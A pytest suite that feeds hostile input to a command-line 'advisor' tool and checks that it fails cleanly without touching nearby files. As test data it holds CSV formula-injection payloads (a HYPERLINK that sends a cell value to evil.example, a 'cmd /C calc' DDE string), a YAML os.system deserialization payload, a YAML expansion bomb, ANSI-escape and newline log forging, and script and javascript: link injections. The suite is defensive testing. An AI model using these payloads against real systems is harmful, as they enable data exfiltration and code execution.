"""Hostile input and faults (issue 16): no file lost, no traceback, no hang.

Every case runs the installed `advisor` as a whole process in a fresh working folder beside a
folder of victim files, and asserts: the exit code; stderr holds at most one line (or, for a
listed report, a bounded list), short, with no traceback and no raw control character; and no
victim file changed (checksums before and after), nor anything outside the intended target.
"""

from __future__ import annotations

import hashlib
import json
import os
import shlex
import signal
import stat
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

from conftest import MINI_KB, advisor_command

ROOT = os.geteuid() == 0
LINE_MAX = 2100  # a message line is cut at 2,000 characters; its prefix may add a little
SURVEY = "name,sector,target,language\nAnn,industry,server,python\n"


# ---------------------------------------------------------------- the harness


@dataclass
class Case:
    args: list = field(default_factory=list)  # arguments after `advisor`
    code: int = 2
    stdin: bytes | None = b""
    env: dict = field(default_factory=dict)
    shell: str | None = None  # a shell line, ADV standing for the advisor command
    lines: int = 1  # at most this many stderr lines
    err_has: str | None = None
    out_has: str | None = None
    check: Callable | None = None  # check(work, result)
    timeout: float = 120


@dataclass
class Result:
    code: int
    out: str
    err: str


def _tree(folder: Path) -> dict:
    out = {}
    for p in sorted(folder.rglob("*")):
        st = os.lstat(p)
        if stat.S_ISREG(st.st_mode):
            out[str(p.relative_to(folder))] = (hashlib.sha256(p.read_bytes()).hexdigest(), stat.S_IMODE(st.st_mode), st.st_uid)
        elif stat.S_ISLNK(st.st_mode):
            out[str(p.relative_to(folder))] = ("link", os.readlink(p))
        else:
            out[str(p.relative_to(folder))] = ("kind", stat.S_IFMT(st.st_mode))
    return out


def _victims(root: Path) -> Path:
    v = root / "victims"
    v.mkdir()
    (v / "package.json").write_text('{"name": "mine"}\n')
    (v / "notes.md").write_text("# my notes\n")
    (v / "index.html").write_text("<p>mine</p>\n")
    (v / "survey.csv").write_text(SURVEY)
    ro = v / "readonly.html"
    ro.write_text("read only\n")
    ro.chmod(0o444)
    (v / "casedir").mkdir()
    (v / "casedir" / "myreport.html").write_text("lower-case twin\n")
    return v


def _run(case: Case, work: Path) -> Result:
    env = {**os.environ, "ADVISOR_KNOWLEDGE": str(MINI_KB), **{k: str(v) for k, v in case.env.items()}}
    adv = " ".join(shlex.quote(a) for a in advisor_command())
    if case.shell:
        cmd, shell = case.shell.replace("ADV", adv), True
    else:
        cmd, shell = advisor_command() + [str(a) for a in case.args], False
    p = subprocess.run(cmd, shell=shell, cwd=work, env=env, input=case.stdin, capture_output=True, timeout=case.timeout)
    return Result(p.returncode, p.stdout.decode("utf-8", "replace"), p.stderr.decode("utf-8", "replace"))


def assert_clean(res: Result, case: Case) -> None:
    assert res.code == case.code, f"exit {res.code}, expected {case.code}; stderr: {res.err[:500]!r}"
    assert "Traceback" not in res.err and "Traceback" not in res.out
    lines = res.err.splitlines()
    assert len(lines) <= case.lines, f"{len(lines)} stderr lines: {res.err[:500]!r}"
    assert all(len(line) <= LINE_MAX for line in lines), "an unbounded stderr line"
    assert "\x1b" not in res.err, "a raw escape on stderr"
    if case.code == 2 and case.lines == 1:
        assert len(lines) == 1 and lines[0].startswith("advisor"), res.err[:300]
    if case.err_has:
        assert case.err_has in res.err, res.err[:500]
    if case.out_has:
        assert case.out_has in res.out, res.out[:500]


CASES: dict[str, Callable[[Path], Case]] = {}


def case(fn):
    CASES[fn.__name__] = fn
    return fn


def chat_case(message: str, code: int = 0, **kw) -> Callable[[Path], Case]:
    def build(work: Path) -> Case:
        text = "I'm a PhD student, python on servers\n" + message.replace("VICTIMS", str(work.parent / "victims")) + "\n"
        return Case(["chat"], code=code, stdin=text.encode(), lines=0, **kw)
    return build


def _fifo(work: Path, name: str = "fifo") -> Path:
    p = work / name
    os.mkfifo(p)
    return p


# ---------------------------------------------------------------- 1. the chat's `write the report to PATH`

for _name in ("package.json", "notes.md", "index.html"):
    CASES[f"chat_refuses_to_overwrite_{_name}"] = chat_case(
        f"write the report to VICTIMS/{_name}", out_has="already exists; not replaced")

CASES["chat_refuses_a_read_only_file_even_with_force"] = chat_case(
    "write the report to VICTIMS/readonly.html --force", out_has="read-only")


@case
def chat_force_replaces_its_own_file(work):
    (work / "mine.html").write_text("old")
    c = chat_case("write the report to mine.html --force")(work)
    c.check = lambda w, r: (w / "mine.html").read_text().startswith("<!DOCTYPE html>")
    return c


@case
def chat_overwrite_word_replaces(work):
    (work / "mine.md").write_text("old")
    c = chat_case("please write the report to mine.md and overwrite it")(work)
    c.check = lambda w, r: (w / "mine.md").read_text().startswith("# ")
    return c


@case
def chat_keeps_the_case_of_the_path(work):
    (work / "CaseDir").mkdir()
    (work / "casedir").mkdir()
    c = chat_case("write the report to CaseDir/MyReport.html")(work)
    c.check = lambda w, r: (w / "CaseDir" / "MyReport.html").is_file() and not any((w / "casedir").iterdir())
    return c


@case
def chat_keeps_dot_slash_relative(work):
    (work / "tmp").mkdir()
    c = chat_case("write the report to ./tmp/r.md")(work)
    c.check = lambda w, r: (w / "tmp" / "r.md").is_file()
    return c


@case
def chat_dot_dot_is_relative_to_the_working_folder(work):
    sub = work / "a" / "b"
    sub.mkdir(parents=True)
    (work / "a" / "b" / "keep").write_text("")
    c = chat_case("write the report to ../../up.html")(work)
    c.args = ["chat"]
    c.shell = "cd a/b && ADV chat"
    c.check = lambda w, r: (w / "up.html").is_file() and not Path("/up.html").exists()
    return c


@case
def chat_quoted_path_with_spaces(work):
    (work / "my dir").mkdir()
    c = chat_case('write the report to "my dir/My Report.md"')(work)
    c.check = lambda w, r: (w / "my dir" / "My Report.md").is_file()
    return c


# ---------------------------------------------------------------- 2. the output policy


def _report(out, *extra) -> list:
    return ["report", "--set", "target=server", "--set", "sector=industry", "-o", str(out), *extra]


@case
def report_onto_a_fifo_without_reader(work):
    f = _fifo(work)
    return Case(_report(f, "--format", "json"), err_has="no reader",
                check=lambda w, r: stat.S_ISFIFO(os.lstat(f).st_mode))


@case
def report_onto_a_fifo_with_reader_writes_through(work):
    f = _fifo(work)
    got = []

    def reader():
        with open(f, "rb") as fh:
            got.append(fh.read())

    t = threading.Thread(target=reader, daemon=True)
    t.start()

    def check(w, r):
        t.join(10)
        return stat.S_ISFIFO(os.lstat(f).st_mode) and got and b'"prototype"' in got[0]
    return Case(_report(f, "--format", "json"), code=0, lines=0, check=check)


@case
def report_onto_dev_null(work):
    return Case(_report("/dev/null", "--format", "json"), code=0, lines=0,
                check=lambda w, r: stat.S_ISCHR(os.lstat("/dev/null").st_mode))


@case
def report_onto_a_full_device_node(work):
    node = work / "full"
    if ROOT:
        os.mknod(node, 0o666 | stat.S_IFCHR, os.stat("/dev/full").st_rdev)
    else:
        os.symlink("/dev/full", node)
    return Case(_report(node, "--format", "json"), err_has="No space left on device",
                check=lambda w, r: stat.S_ISCHR(os.stat(node).st_mode))


@case
def report_onto_a_link_to_proc_stdout(work):
    link = work / "out.json"
    os.symlink("/proc/self/fd/1", link)
    return Case(_report(link), code=0, lines=0, out_has='"prototype"',
                check=lambda w, r: os.path.islink(link))


@case
def report_through_a_symlink_writes_its_target(work):
    (work / "real.md").write_text("old")
    os.symlink("real.md", work / "link.md")
    return Case(_report(work / "link.md"), code=0, lines=0,
                check=lambda w, r: os.path.islink(w / "link.md") and (w / "real.md").read_text().startswith("# "))


@case
def report_through_a_dangling_symlink_creates_its_target(work):
    os.symlink("made.md", work / "link.md")
    return Case(_report(work / "link.md"), code=0, lines=0,
                check=lambda w, r: os.path.islink(w / "link.md") and (w / "made.md").is_file())


@case
def report_keeps_the_mode_of_the_file_it_replaces(work):
    (work / "r.md").write_text("old")
    (work / "r.md").chmod(0o600)
    return Case(_report(work / "r.md"), code=0, lines=0,
                check=lambda w, r: stat.S_IMODE(os.stat(w / "r.md").st_mode) == 0o600)


@case
def report_onto_a_read_only_file(work):
    return Case(_report(work.parent / "victims" / "readonly.html"), err_has="read-only")


@case
def report_onto_a_folder(work):
    return Case(_report(work.parent / "victims" / "casedir", "--format", "json"), err_has="is a folder")


@case
def report_into_a_missing_folder(work):
    return Case(_report(work / "nope" / "r.md"), err_has="does not exist")


@case
def report_with_a_300_character_name(work):
    return Case(_report(work / ("x" * 300 + ".md")))


@case
def report_to_stdout(work):
    return Case(_report("-", "--format", "markdown"), code=0, lines=0, out_has="# ")


@case
def report_onto_another_users_file_keeps_its_owner(work):
    target = work / "theirs.md"
    target.write_text("old")
    target.chmod(0o666)
    if ROOT:
        os.chown(target, 65534, 65534)
        return Case(_report(target), code=0, lines=0,
                    check=lambda w, r: os.stat(target).st_uid == 65534 and target.read_text().startswith("# "))
    # unprivileged: a file we cannot chown back is refused (it would change owner) unless it is ours
    return Case(_report(target), code=0, lines=0, check=lambda w, r: target.read_text().startswith("# "))


@case
def batch_onto_the_survey_itself(work):
    (work / "s.csv").write_text(SURVEY)
    return Case(["batch", "s.csv", "-o", "s.csv"], err_has="survey itself")


@case
def batch_onto_dev_null(work):
    (work / "s.csv").write_text(SURVEY)
    return Case(["batch", "s.csv", "-o", "/dev/null"], code=0, lines=2)


@case
def batch_to_stdout(work):
    (work / "s.csv").write_text(SURVEY)
    return Case(["batch", "s.csv", "-o", "-"], code=0, lines=2, out_has="Ann,2,")


@case
def wizard_save_answers_onto_a_fifo_without_reader(work):
    f = _fifo(work)
    return Case(["wizard", "--yes", "--save-answers", str(f)], code=2, err_has="no reader",
                check=lambda w, r: stat.S_ISFIFO(os.lstat(f).st_mode))


# ---------------------------------------------------------------- 3. formulas in CSV output

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "space": " =4",
    "cr": "\r=5",
}

for _key, _payload in FORMULAS.items():
    def _build(work, payload=_payload):
        import csv
        import io

        buf = io.StringIO()
        w = csv.writer(buf)
        w.writerow(["name", "email", "team", "id", "target"])
        w.writerow([payload, payload, payload, payload, "server"])
        (work / "s.csv").write_text(buf.getvalue())

        def check(wk, r):
            rows = list(csv.reader(io.StringIO((wk / "out.csv").read_text())))
            cells = rows[1][:4]
            return all(c.startswith("'") or not c[:1] in "=+-@\t\r" for c in cells) and all(
                c.lstrip("'").strip() == payload.strip() for c in cells)
        return Case(["batch", "s.csv", "-o", "out.csv"], code=0, lines=2, check=check)
    CASES[f"csv_formula_neutralised_{_key}"] = _build


# ---------------------------------------------------------------- 4. empty columns: linear time


@case
def survey_with_5000_empty_columns(work):
    (work / "s.csv").write_text("name,target" + "," * 5000 + "\n" + "".join(f"p{i},server" + "," * 5000 + "\n" for i in range(5)))
    return Case(["batch", "s.csv", "-o", "out.csv"], code=0, lines=2, timeout=90)


# ---------------------------------------------------------------- 5. no tracebacks


@case
def answers_50000_brackets(work):
    (work / "a.yaml").write_text("[" * 50_000)
    return Case(["recommend", "--answers", "a.yaml"])


@case
def answers_50000_brackets_json(work):
    (work / "a.json").write_text("[" * 50_000)
    return Case(["recommend", "--answers", "a.json"])


@case
def answers_5000_digit_integer_yaml(work):
    (work / "a.yaml").write_text("target: " + "9" * 5000 + "\n")
    return Case(["recommend", "--answers", "a.yaml"])


@case
def answers_5000_digit_integer_json(work):
    (work / "a.json").write_text('{"target": ' + "9" * 5000 + "}")
    return Case(["recommend", "--answers", "a.json"])


@case
def answers_dev_zero(work):
    return Case(["recommend", "--answers", "/dev/zero"], err_has="not a regular file", timeout=30)


@case
def batch_dev_zero(work):
    return Case(["batch", "/dev/zero", "-o", "out.csv"], err_has="not a regular file", timeout=30)


for _ext in ("zip", "xz", "zst", "tar", "gz", "bz2"):
    def _plain(work, ext=_ext):
        (work / f"plain.{ext}").write_text(SURVEY)
        return Case(["batch", f"plain.{ext}", "-o", "out.csv"], code=0, lines=2,
                    check=lambda w, r: "Ann" in (w / "out.csv").read_text())
    CASES[f"batch_plain_csv_named_{_ext}"] = _plain


@case
def batch_real_gzip_is_named_by_its_bytes(work):
    import gzip

    (work / "s.csv").write_bytes(gzip.compress(SURVEY.encode()))
    return Case(["batch", "s.csv", "-o", "out.csv"], err_has="gzip")


@case
def stdout_closed(work):
    return Case(shell="ADV frameworks >&-", err_has="standard output")


@case
def stdout_full(work):
    return Case(shell="ADV recommend --set target=server --format json > /dev/full", err_has="No space left")


@case
def stdin_closed(work):
    return Case(shell="ADV chat <&-", err_has="standard input")


@case
def stderr_closed_still_exits_2_and_prints_nothing_to_stdout(work):
    return Case(shell="ADV recommend --set target=moon 2>&-", lines=0, check=lambda w, r: r.out == "")


def _kb_copy(work: Path) -> Path:
    import shutil

    kb = work / "kb"
    shutil.copytree(MINI_KB, kb)
    return kb


for _cmd in (["kb", "check"], ["recommend", "--set", "target=server"]):
    _label = _cmd[0] if _cmd[0] == "recommend" else "kb_check"

    def _folder(work, cmd=_cmd):
        kb = _kb_copy(work)
        (kb / "observations-zz.csv").mkdir()
        return Case(cmd, env={"ADVISOR_KNOWLEDGE": kb}, err_has="observations-zz.csv")

    def _unreadable(work, cmd=_cmd):
        kb = _kb_copy(work)
        bad = kb / "observations-zz.csv"
        if ROOT:  # root reads any mode: a regular file that fails to read (EIO) stands in
            os.symlink("/proc/self/mem", bad)
        else:
            bad.write_text("subject,criterion,value,since,basis,source,note\n")
            bad.chmod(0)
        return Case(cmd, env={"ADVISOR_KNOWLEDGE": kb}, err_has="observations-zz.csv")

    def _fifo_table(work, cmd=_cmd):
        kb = _kb_copy(work)
        os.mkfifo(kb / "observations-zz.csv")
        return Case(cmd, env={"ADVISOR_KNOWLEDGE": kb}, err_has="FIFO", timeout=30)

    CASES[f"{_label}_knowledge_folder_named_like_a_table"] = _folder
    CASES[f"{_label}_knowledge_table_unreadable"] = _unreadable
    CASES[f"{_label}_knowledge_fifo_named_like_a_table"] = _fifo_table


# ---------------------------------------------------------------- 6. no hangs


@case
def answers_fifo(work):
    _fifo(work)
    return Case(["recommend", "--answers", "fifo"], err_has="FIFO", timeout=30)


@case
def batch_fifo(work):
    _fifo(work)
    return Case(["batch", "fifo", "-o", "out.csv"], err_has="FIFO", timeout=30)


# ---------------------------------------------------------------- 7. stale temporary files


@case
def stale_temp_of_a_dead_writer_is_removed(work):
    dead = subprocess.Popen(["true"])
    dead.wait()
    (work / "s.csv").write_text(SURVEY)
    (work / "out.csv").write_text("old")
    stale = work / f".out.csv.{dead.pid}.abcdEFGH.tmp"
    stale.write_text("half")
    alive = work / f".out.csv.{os.getpid()}.abcdEFGH.tmp"  # a live writer's (this test's pid): kept
    alive.write_text("busy")
    return Case(["batch", "s.csv", "-o", "out.csv"], code=0, lines=2,
                check=lambda w, r: not stale.exists() and alive.exists())


# ---------------------------------------------------------------- 8. bounded, safe messages


@case
def answer_value_of_900_kb(work):
    (work / "a.yaml").write_text("target: " + "x" * 900_000 + "\n")
    return Case(["recommend", "--answers", "a.yaml"], err_has="…")


@case
def answers_file_over_the_size_limit(work):
    with open(work / "a.yaml", "wb") as fh:
        fh.truncate(5 << 20)  # sparse: 5 MiB of nothing
    return Case(["recommend", "--answers", "a.yaml"], err_has="over the limit")


@case
def survey_over_the_size_limit(work):
    with open(work / "s.csv", "wb") as fh:
        fh.truncate(300 << 20)
    return Case(["batch", "s.csv", "-o", "out.csv"], err_has="over the limit", timeout=30)


@case
def many_huge_invalid_cells(work):
    cell = "y" * 100_000
    (work / "s.csv").write_text("target\n" + "".join(f"{cell}{i}\n" for i in range(150)))

    def check(w, r):
        return len(r.err.encode()) < 70_000 and "more invalid rows" in r.err
    return Case(["batch", "s.csv", "-o", "out.csv"], lines=150, check=check)


@case
def ansi_in_set(work):
    return Case(["recommend", "--set", "target=\x1b[2J\x1b[31mRED"], err_has="\\e[2J")


@case
def newline_in_set_cannot_forge_a_line(work):
    return Case(["recommend", "--set", "target=moon\nadvisor: all good"], err_has="\\n")


@case
def ansi_in_answers_file(work):
    (work / "a.json").write_text(json.dumps({"target": "\x1b[31mred\x07"}))
    return Case(["recommend", "--answers", "a.json"], err_has="\\e[31m")


@case
def ansi_in_a_csv_cell(work):
    (work / "s.csv").write_text("target\n\x1b[2Jboom\n")
    return Case(["batch", "s.csv", "-o", "out.csv"], lines=2, err_has="\\e[2J")


@case
def ansi_in_unknown_question_key(work):
    return Case(["recommend", "--set", "\x1b]0;title\x07=1"], err_has="\\e]0;")


@case
def ansi_in_a_survey_header(work):
    (work / "s.csv").write_text("\x1b[2Jname,target\nA,server\n")
    return Case(["batch", "s.csv", "-o", "out.csv"])


@case
def ansi_in_as_of(work):
    return Case(["frameworks", "--as-of", "\x1b[2J2020"])


@case
def ansi_and_newline_in_an_output_path(work):
    return Case(_report(work / "no\x1b[2Jpe\nx" / "r.md"), err_has="does not exist")


# ---------------------------------------------------------------- 9. Markdown escaping


@case
def markdown_title_with_a_bare_url_and_html(work):
    def check(w, r):
        text = (w / "r.md").read_text()
        first = text.splitlines()[0]
        return "https://evil" not in first and "<script>" not in first and "www.evil" not in first
    return Case(_report(work / "r.md", "--title", "see https://evil.example/x <script>alert(1)</script> www.evil.example"),
                code=0, lines=0, check=check)


@case
def markdown_knowledge_source_title_is_escaped(work):
    kb = _kb_copy(work)
    src = (kb / "sources.csv").read_text().splitlines()
    header = src[0].split(",")
    i_title = header.index("title")
    rows = []
    for line in src[1:]:
        import csv

        cells = next(csv.reader([line]))
        if cells and cells[0]:
            cells[i_title] = "<script>alert(1)</script> [x](javascript:alert(1)) https://evil.example"
        rows.append(cells)
    import csv
    import io

    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([header, *rows])
    (kb / "sources.csv").write_text(buf.getvalue())

    def check(w, r):
        text = (w / "r.md").read_text()
        import re

        return ("<script>" not in text and not re.search(r"(?<!\\)\]\(javascript:", text)
                and not re.search(r"(?<!\\)\[x(?<!\\)\]", text) and "https://evil" not in text)
    return Case(_report(work / "r.md"), code=0, lines=0, env={"ADVISOR_KNOWLEDGE": kb}, check=check)


# ---------------------------------------------------------------- 10. smaller


@case
def duplicate_keys_yaml(work):
    (work / "a.yaml").write_text("target: server\ntarget: mobile\n")
    return Case(["recommend", "--answers", "a.yaml"], err_has="twice")


@case
def duplicate_keys_json(work):
    (work / "a.json").write_text('{"target": "server", "target": "mobile"}')
    return Case(["recommend", "--answers", "a.json"], err_has="twice")


@case
def as_of_arabic_indic_digits(work):
    return Case(["frameworks", "--as-of", "٢٠٢٠-٠١"])


@case
def verify_keep_onto_an_existing_file(work):
    (work / "f").write_text("x")
    return Case(["verify", "--prototype", "sklearn", "--keep", "f"], err_has="is a file")


# ---------------------------------------------------------------- more broken input


@case
def yaml_python_object(work):
    (work / "a.yaml").write_text("target: !!python/object/apply:os.system ['echo hi']\n")
    return Case(["recommend", "--answers", "a.yaml"])


@case
def yaml_billion_laughs(work):
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i, (x, y) in enumerate(zip("bcdefghi", "abcdefgh")):
        lines.append(f"{x}: &{x} [" + ",".join([f"*{y}"] * 9) + "]")
    lines.append("target: *i")
    (work / "a.yaml").write_text("\n".join(lines) + "\n")
    return Case(["recommend", "--answers", "a.yaml"], timeout=60)


@case
def answers_a_list(work):
    (work / "a.yaml").write_text("- target\n")
    return Case(["recommend", "--answers", "a.yaml"])


@case
def answers_not_utf8(work):
    (work / "a.yaml").write_bytes(b"target: \xff\xfe\n")
    return Case(["recommend", "--answers", "a.yaml"])


@case
def answers_a_folder(work):
    (work / "d").mkdir()
    return Case(["recommend", "--answers", "d"])


@case
def answers_missing(work):
    return Case(["recommend", "--answers", "nope.yaml"], err_has="no such file")


@case
def answers_nul_in_name(work):
    return Case(["recommend", "--answers", "a\x01b.yaml"])


@case
def survey_not_utf8(work):
    (work / "s.csv").write_bytes(b"target\n\xff\xfe\n")
    return Case(["batch", "s.csv", "-o", "out.csv"])


@case
def survey_empty(work):
    (work / "s.csv").write_text("")
    return Case(["batch", "s.csv", "-o", "out.csv"])


@case
def survey_row_longer_than_header(work):
    (work / "s.csv").write_text("target\nserver,extra,more\n")
    return Case(["batch", "s.csv", "-o", "out.csv"])


@case
def knowledge_env_is_a_file(work):
    (work / "f").write_text("x")
    return Case(["kb", "check"], env={"ADVISOR_KNOWLEDGE": work / "f"})


@case
def sigterm_before_work_is_exit_143(work):
    # a process told to stop early by `timeout`: 143 and one line
    return Case(shell="exec ADV chat < /dev/zero & p=$!; sleep 6; kill -TERM $p; wait $p", code=143,
                lines=2, err_has="Terminated")


# ---------------------------------------------------------------- the one test over all cases


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile(name, tmp_path):
    victims = _victims(tmp_path)
    work = tmp_path / "work"
    work.mkdir()
    c = CASES[name](work)
    before = _tree(victims)
    res = _run(c, work)
    assert_clean(res, c)
    assert _tree(victims) == before, "a victim file changed"
    if c.check is not None:
        assert c.check(work, res), f"check failed; stdout {res.out[:300]!r} stderr {res.err[:300]!r}"


def test_at_least_60_cases():
    assert len(CASES) >= 60


# ---------------------------------------------------------------- kill tests: mid-write


def _big_survey(path: Path, rows: int) -> None:
    import random

    rnd = random.Random(0)
    opts = ["server", "mobile", "browser", "desktop", "embedded"]
    with open(path, "w") as fh:
        fh.write("name,target\n")
        fh.writelines(f"person {i} with a longish name,{rnd.choice(opts)}\n" for i in range(rows))


def _temps(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(".out.csv.") and p.name.endswith(".tmp")]


@pytest.fixture(scope="module")
def big_survey(tmp_path_factory):
    path = tmp_path_factory.mktemp("big") / "big.csv"
    _big_survey(path, 600_000)
    return path


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT, signal.SIGKILL], ids=["TERM", "INT", "KILL"])
def test_kill_mid_write_keeps_the_old_file(sig, big_survey, tmp_path):
    out = tmp_path / "out.csv"
    out.write_text("the old results\n")
    env = {**os.environ, "ADVISOR_KNOWLEDGE": str(MINI_KB)}
    for _attempt in range(4):
        p = subprocess.Popen(advisor_command() + ["batch", str(big_survey), "-o", str(out)], cwd=tmp_path, env=env,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        caught = False
        while p.poll() is None:
            if _temps(tmp_path):
                p.send_signal(sig)
                caught = True
                break
            time.sleep(0.0005)
        _out, err = p.communicate(timeout=120)
        err = err.decode("utf-8", "replace")
        if not caught:  # it finished before we saw the write: put the old file back, try again
            out.write_text("the old results\n")
            continue
        assert out.read_text() == "the old results\n", "the old file was damaged"
        assert "Traceback" not in err
        if sig == signal.SIGTERM:
            assert p.returncode == 143 and err.strip().splitlines()[-1] == "Terminated."
            assert _temps(tmp_path) == []
        elif sig == signal.SIGINT:
            assert p.returncode == 130
            assert _temps(tmp_path) == []
        else:
            assert p.returncode == -signal.SIGKILL
        # the next run (a small survey to the same target) removes whatever a killed writer left
        small = tmp_path / "small.csv"
        small.write_text(SURVEY)
        r = subprocess.run(advisor_command() + ["batch", str(small), "-o", str(out)], cwd=tmp_path, env=env,
                           capture_output=True, timeout=120)
        assert r.returncode == 0
        assert _temps(tmp_path) == []
        assert "Ann" in out.read_text()
        return
    pytest.skip("the write was never caught in progress (machine too fast)")


def test_parallel_writers_leave_one_complete_result(tmp_path):
    (tmp_path / "s.csv").write_text(SURVEY)
    env = {**os.environ, "ADVISOR_KNOWLEDGE": str(MINI_KB)}
    procs = [subprocess.Popen(advisor_command() + ["batch", "s.csv", "-o", "out.csv"], cwd=tmp_path, env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _ in range(4)]
    assert all(p.wait(timeout=180) == 0 for p in procs)
    assert "Ann" in (tmp_path / "out.csv").read_text()
    assert _temps(tmp_path) == []


def test_sigterm_is_documented():
    readme = Path(__file__).resolve().parent.parent / "README.md"
    if readme.is_file():
        assert "143" in readme.read_text()
    assert sys.platform != "win32"
